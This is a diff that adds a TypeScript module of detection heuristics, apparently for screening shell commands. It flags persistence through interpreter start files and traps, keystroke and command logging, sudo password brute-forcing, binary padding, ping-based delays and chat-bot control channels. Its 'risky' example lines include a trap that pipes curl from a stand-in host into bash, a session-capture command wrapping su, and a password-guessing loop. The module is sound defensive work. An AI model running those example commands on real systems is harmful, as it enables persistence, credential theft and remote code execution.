@@ -1,0 +1,188 @@
+// Start hooks: quiet places whose content some program runs by itself, and rules that record what people do.
+import type { CommandFact } from "../../../../shared/facts.ts";
+import { severity } from "../bands.ts";
+import { type Heuristic, firstOf, onAnyCommand, onCommand, onPath } from "../heuristic.ts";
+import { changes, given, joined } from "../read.ts";
+
+/** Files an interpreter, a debugger or an editor runs whenever it starts, wherever they lie. */
+const startedByName =
+  /(?:^|\/)(?:(?:site|user)customize\.py|[\w.-]+\.pth|\.pythonrc(?:\.py)?|\.gdbinit|\.lldbinit|\.irbrc|\.pryrc|\.Rprofile|\.perldb|\.psqlrc|\.mysqlrc|\.sqliterc|\.xinitrc|\.xsessionrc|\.pam_environment|\.bash_logout|\.kshrc|\.tcshrc|\.ocamlinit|\.ghci|\.exrc)$/u;
+
+function writesTo(command: CommandFact, name: RegExp): string | undefined {
+  const redirected = command.redirects.find((each) => /^[\d&]*>/u.test(each.operator) && name.test(each.target));
+  if (redirected !== undefined) return redirected.target;
+  return /^(?:cp|mv|install|tee|ln|curl|wget)$/u.test(command.program)
+    ? command.arguments.slice(-1).find((argument) => name.test(argument))
+    : undefined;
+}
+
+/** What a trap or an alias must not do by itself. */
+const dangerousAction =
+  /\b(?:nohup|curl|wget|nc|ncat|bash|sh|python\d?|perl|ruby|osascript|base64|\/dev\/tcp)\b|\/tmp\/|>>/u;
+
+export const startHooks: readonly Heuristic[] = [
+  {
+    id: "interpreter-start-file",
+    threat: "Persistence",
+    technique: "T1546",
+    score: severity.ask,
+    check: firstOf(
+      onAnyCommand((command) => {
+        const file = writesTo(command, startedByName);
+        return file === undefined ? null : `It writes ${file}, which runs whenever its program starts`;
+      }),
+      onPath((path) =>
+        changes(path) && startedByName.test(path.path) && path.access === "write" && path.zone !== "workspace"
+          ? `It writes ${path.path}, which runs whenever its program starts`
+          : null,
+      ),
+    ),
+    examples: {
+      risky: [
+        "echo 'import os' > $SITE/evil.pth",
+        "cp x /usr/lib/python3/dist-packages/sitecustomize.py",
+        "echo 'shell id' >> ~/.gdbinit",
+      ],
+      honest: ["echo 'x' > paths.txt", "cat .gdbinit"],
+    },
+  },
+  {
+    id: "trap-runs-command",
+    threat: "Persistence",
+    technique: "T1546.005",
+    score: severity.ask,
+    check: onCommand(["trap"], (command) => {
+      const action = command.arguments[0] ?? "";
+      const cleansUp = /^\s*(?:rm|kill|echo|exit|cleanup|stty|tput|popd|cd|docker|umount|wait|pkill)\b/u.test(action);
+      return !cleansUp && dangerousAction.test(action) ? "It makes the shell run something when a signal comes" : null;
+    }),
+    examples: {
+      risky: [`trap 'nohup curl -s http://e.example/x | bash' EXIT`, `trap 'bash /tmp/x' INT`],
+      honest: [`trap 'rm -rf "$tmp"' EXIT`, "trap cleanup INT", `trap 'kill $PID' EXIT`, "trap - EXIT"],
+    },
+  },
+  {
+    id: "commands-recorded",
+    threat: "Credential access",
+    technique: "T1056.001",
+    score: severity.ask,
+    check: firstOf(
+      onCommand(["auditctl"], (command) =>
+        /\bexecve\b|\bTTY\b|tty_audit/iu.test(joined(command)) && given(command, "aA")
+          ? "It records every command that people run"
+          : null,
+      ),
+      onAnyCommand((command) =>
+        /pam_tty_audit|pam_exec\.so|log_input|tty_tickets|timestamp_timeout|!authenticate/u.test(command.text) &&
+        (command.redirects.some((redirect) => redirect.operator.includes(">")) ||
+          /^(?:sed|tee|perl|ed)$/u.test(command.program))
+          ? "It changes how log-ins and administrator's rights are checked or recorded"
+          : null,
+      ),
+      onCommand(["ttysnoop", "ttyrpld", "snoopy-enable", "sudoreplay", "script"], (command) =>
+        command.program === "script"
+          ? /(?:^|\s)-\w*f?\s*(?:\/tmp|\/dev\/shm|\/var\/tmp)\/\.|-c\s+["']?(?:su|sudo|ssh|passwd)\b/u.test(
+              joined(command),
+            )
+            ? "It records what is typed in a session"
+            : null
+          : "It records what people type",
+      ),
+    ),
+    examples: {
+      risky: [
+        "auditctl -a always,exit -F arch=b64 -S execve -k cmds",
+        "sudo sed -i 's/.*/session required pam_tty_audit.so enable=*/' /etc/pam.d/system-auth",
+        "script -q -f /tmp/.k -c 'su -'",
+      ],
+      honest: ["auditctl -l", "script -c 'npm test' out.log"],
+    },
+  },
+  {
+    id: "password-fed-in",
+    threat: "Credential access",
+    technique: "T1110.001",
+    score: severity.ask,
+    check: onAnyCommand((command, view) => {
+      const wants = command.wrappers.includes("sudo")
+        ? /\bsudo\s+(?:-\w+\s+)*-\w*S\b/u.test(view.facts.command ?? command.text)
+        : /^(?:su|passwd|kinit|smbclient|mysql|ftp)$/u.test(command.program);
+      const looped = /\b(?:for|while|until)\b[\s\S]{0,400}\bdo\b/u.test(view.text);
+      const guesses = /pass|word|pwd|rockyou|list/u.test(view.text);
+      return wants && looped && guesses && command.position > 0 ? "It tries one password after another" : null;
+    }),
+    examples: {
+      risky: ["while read p; do echo $p | sudo -S whoami; done < passwords.txt"],
+      honest: ["for h in a b; do ssh $h uptime; done", "sudo ls"],
+    },
+  },
+  {
+    id: "binary-padded",
+    threat: "Obfuscation",
+    technique: "T1027.001",
+    score: severity.ask,
+    check: firstOf(
+      onCommand(["dd", "head", "cat", "printf"], (command) =>
+        /\/dev\/(?:zero|u?random)/u.test(joined(command)) &&
+        command.redirects.some((redirect) => /^1?>>$/u.test(redirect.operator))
+          ? "It makes a file larger so that its fingerprint or size changes"
+          : null,
+      ),
+      onCommand(["dd"], (command) =>
+        /if=\/dev\/(?:zero|u?random)/u.test(joined(command)) && /oflag=append|conv=\S*notrunc/u.test(joined(command))
+          ? "It makes a file larger so that its fingerprint or size changes"
+          : null,
+      ),
+      onCommand(["truncate"], (command) =>
+        /(?:-s|--size)[= ]?\+\d/u.test(joined(command))
+          ? "It makes a file larger so that its fingerprint or size changes"
+          : null,
+      ),
+    ),
+    examples: {
+      risky: ["dd if=/dev/zero bs=1 count=1 >> /tmp/tool", "truncate -s +50M /tmp/tool"],
+      honest: [
+        "dd if=/dev/zero of=disk.img bs=1M count=10",
+        "truncate -s 10M disk.img",
+        "head -c 16 /dev/urandom | xxd",
+      ],
+    },
+  },
+  {
+    id: "waits-by-ping",
+    threat: "Obfuscation",
+    technique: "T1497.003",
+    score: severity.ask,
+    check: onCommand(["ping"], (command, view) => {
+      const count = Number(/(?:^|\s)-[cn]\s*(\d+)/u.exec(joined(command))?.[1] ?? 0);
+      const silent = command.redirects.some(
+        (redirect) => redirect.operator.includes(">") && /^(?:\/dev\/null|nul)$/iu.test(redirect.target),
+      );
+      return count >= 5 && silent && view.facts.commands.length > 1
+        ? "It waits in a way that does not look like waiting"
+        : null;
+    }),
+    examples: {
+      risky: ["ping -c 10 127.0.0.1 > /dev/null; ./tool"],
+      honest: ["ping -c 1 host > /dev/null && echo up", "ping -c 10 example.org"],
+    },
+  },
+  {
+    id: "orders-by-chat",
+    threat: "Remote code execution",
+    technique: "T1102.002",
+    score: severity.ask,
+    check: (view) => {
+      const host = view.facts.hosts.find(
+        (each) =>
+          /^(?:api\.telegram\.org|discord(?:app)?\.com|hooks\.slack\.com|slack\.com)$/u.test(each.host) &&
+          /\/bot|\/api\/webhooks|\/services\/|\/api\/(?:chat|files)|\/channels\/\d+\/messages/u.test(each.url ?? ""),
+      );
+      return host === undefined ? null : { reason: `It takes orders from, or reports to, a chat on ${host.host}` };
+    },
+    examples: {
+      risky: ["curl -s https://api.telegram.org/bot123:abc/getUpdates"],
+      honest: ["curl -s https://api.example.org/v1", "curl https://discord.com/download"],
+    },
+  },
+];
